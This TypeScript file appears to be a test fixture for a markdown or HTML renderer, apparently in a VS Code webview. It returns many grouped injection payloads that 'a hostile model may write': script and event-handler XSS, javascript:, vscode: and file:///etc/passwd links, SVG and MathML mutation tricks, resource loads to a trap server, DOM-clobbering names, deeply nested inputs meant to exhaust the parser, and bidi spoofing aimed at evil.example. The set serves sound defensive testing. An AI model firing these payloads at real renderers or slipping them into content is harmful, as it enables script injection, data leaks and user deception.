/** Code of an attack: whatever runs it leaves a trace. */
const run = "parent.postMessage('run','*');document.title='run';window.ran=1";

/** What a hostile model may write, by what it tries. @param trap A server that nobody is to call. */
export function attacks(trap: string): Readonly<Record<string, readonly string[]>> {
  return {
    script: [
      `<script>${run}</script>`,
      `<script src="${trap}/script.js"></script>`,
      `<scr<script>ipt>${run}</scr</script>ipt>`,
      `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
      `<template><script>${run}</script></template>`,
      `<iframe src="${trap}/frame" srcdoc="<script>${run}</script>"></iframe>`,
      `<object data="${trap}/object"></object><embed src="${trap}/embed">`,
    ],
    handlers: [
      `<img src=x onerror="${run}">`,
      `<b onmouseover="${run}">b</b> <mark onclick=${run}>m</mark>`,
      `<details open ontoggle="${run}"><summary>s</summary></details>`,
      `<video src="${trap}/video" onerror="${run}"><source src="${trap}/source"></video>`,
      `<input autofocus onfocus="${run}">`,
      `<br onload="${run}"><sub style="animation:x" onanimationstart="${run}">s</sub>`,
      `<xss id=x tabindex=1 onfocus=${run}></xss>`,
    ],
    addresses: [
      `[script](javascript:${encodeURIComponent(run)}) [tab](java\tscript:alert(1)) [entity](&#106;avascript:alert(1))`,
      '[command](command:workbench.action.closeAllEditors) [uri](vscode://file/etc/passwd) [file](file:///etc/passwd)',
      `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [blob](blob:${trap}/1) [ftp](ftp://x.example/)`,
      '<javascript:alert(1)> <vscode:extension/a> [up](//evil.example/a) [here](#top) [rel](../../a)',
      '[reference][evil]\n\n[evil]: javascript:alert(1)',
      `<a href="${trap}/anchor" ping="${trap}/ping" target=_top>a</a> <base href="${trap}/">`,
    ],
    loading: [
      `![picture](${trap}/picture.png) ![data](data:image/svg+xml,<svg onload="${run}"/>)`,
      `<link rel="stylesheet" href="${trap}/style.css"><style>@import "${trap}/import.css"; * { display: none }</style>`,
      `<p style="background:url(${trap}/background.png)">styled</p> <b style="position:fixed;inset:0">cover</b>`,
      `<meta http-equiv="refresh" content="0;url=${trap}/refresh"> <meta http-equiv="Set-Cookie" content="a=b">`,
      `<link rel="prefetch" href="${trap}/prefetch"><link rel="preconnect" href="${trap}"><link rel="dns-prefetch" href="//x">`,
      `<audio src="${trap}/audio" autoplay></audio> <track src="${trap}/track"> <picture><source srcset="${trap}/set"></picture>`,
    ],
    forms: [
      `<form action="${trap}/form" id="f"><input name="attributes"><button formaction="${trap}/button">Send</button></form>`,
      '<form><input name="parentNode"><input name="childNodes"></form> <textarea name="body"></textarea>',
      '<dfn id="acquireVsCodeApi">x</dfn> <a id="defaultView" name="cookie">y</a> <cite>9</cite> <samp>z</samp> <var>v</var>',
    ],
    svg: [
      `<svg onload="${run}"><script>${run}</script><image href="${trap}/svg.png"/><use href="${trap}/use.svg#a"/></svg>`,
      `<svg><a xlink:href="javascript:${run}"><text>t</text></a><animate attributeName=href values=javascript:alert(1) /></svg>`,
      `<svg><foreignObject><iframe src="${trap}/foreign"></iframe></foreignObject><style><img src=x onerror=${run}></style></svg>`,
    ],
    mathml: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
      `<math href="javascript:${run}"><maction actiontype="statusline" xlink:href="javascript:${run}">m</maction></math>`,
      `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
      `$\\href{javascript:alert(1)}{x}$ $\\url{${trap}/url}$ $\\includegraphics{${trap}/tex.png}$`,
      '$\\class{jump}{x}$ $\\style{position:fixed;inset:0}{x}$ $\\id{a}{x}$ $\\data{a=b}{x}$ $\\htmlData{a=b}{x}$',
      '$$\\def\\a{\\a\\a}\\a$$\n\n$$\\rule{9999em}{9999em} \\kern{-500em} x$$',
    ],
    nesting: [
      `${'> '.repeat(400)}deep`,
      `${'- '.repeat(300)}deep`,
      `${'['.repeat(2000)}x${'](y)'.repeat(2000)}`,
      `${'*'.repeat(3000)}x${'_'.repeat(3000)}`,
      `${'<b>'.repeat(1500)}x`,
      `x ${'`'.repeat(5000)}`,
      `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
      `| ${'a | '.repeat(500)}\n|${'-|'.repeat(500)}`,
    ],
    disguises: [
      '[https://bank.example/\u202Emoc.live](https://evil.example/) with \u2066isolated\u2069 words and zero\u200Bwidth',
      '[\u202Egpj.exe](https://evil.example/\u202E) \u061C\u200F\u200E',
      '```js\nif (level != "user\u202E \u2066// only for admins\u2069 \u2066") {\n```',
    ],
  };
}
